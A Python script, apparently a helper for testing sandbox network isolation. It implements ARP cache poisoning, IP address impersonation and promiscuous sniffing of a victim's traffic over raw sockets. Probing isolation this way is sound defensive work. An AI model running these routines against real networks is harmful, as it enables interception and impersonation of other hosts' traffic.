"""What a task with raw sockets could try, run in its network namespace. Each command prints one word at its end."""
import socket
import struct
import subprocess
import sys

ARP, IPV4 = 0x0806, 0x0800


def raw(promiscuous=False):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sock.bind(("eth0", 0))
    if promiscuous:
        index = socket.if_nametoindex("eth0")
        sock.setsockopt(263, 1, struct.pack("iHH8s", index, 1, 0, b""))
    return sock


def own_mac():
    found = subprocess.run(["ip", "-o", "link", "show", "eth0"], capture_output=True, text=True, check=True).stdout
    return bytes.fromhex(found.split("link/ether ")[1].split()[0].replace(":", ""))


def poison(victim, target):
    """Says to everybody, and to the target, that the victim's address is at our card."""
    sock, ours = raw(), own_mac()
    for operation in (1, 2):
        for ip in (victim, target):
            frame = b"\xff" * 6 + ours + struct.pack("!H", ARP)
            frame += struct.pack("!HHBBH", 1, IPV4, 6, 4, operation)
            frame += ours + socket.inet_aton(victim) + b"\0" * 6 + socket.inet_aton(ip)
            for _ in range(5):
                sock.send(frame)
    print("sent")


def ask(host, port, source=None):
    try:
        with socket.create_connection((host, int(port)), timeout=3, source_address=source):
            print("connected")
    except OSError:
        print("refused")


def borrow(victim, host, port):
    """Takes the victim's address for its own, and asks as the victim."""
    subprocess.run(["ip", "addr", "add", f"{victim}/32", "dev", "eth0"], check=True)
    try:
        ask(host, port, (victim, 0))
    finally:
        subprocess.run(["ip", "addr", "del", f"{victim}/32", "dev", "eth0"], check=True)


def sniff(victim):
    """Listens with a promiscuous card until its input ends; counts packets of the victim that were for others."""
    sock, ours, seen, heard = raw(True), own_mac(), 0, 0
    sock.settimeout(0.2)
    print("listening", flush=True)
    sys.stdin.read()
    address = socket.inet_aton(victim)
    while True:
        try:
            frame = sock.recv(65535)
        except OSError:
            break
        heard += 1
        if frame[:6] == ours or frame[0] & 1 or frame[6:12] == ours:
            continue
        if frame[12:14] == struct.pack("!H", IPV4) and address in (frame[26:30], frame[30:34]):
            seen += 1
    print(f"overheard {seen}, heard {heard}")


if __name__ == "__main__":
    {"poison": poison, "ask": ask, "borrow": borrow, "sniff": sniff}[sys.argv[1]](*sys.argv[2:])
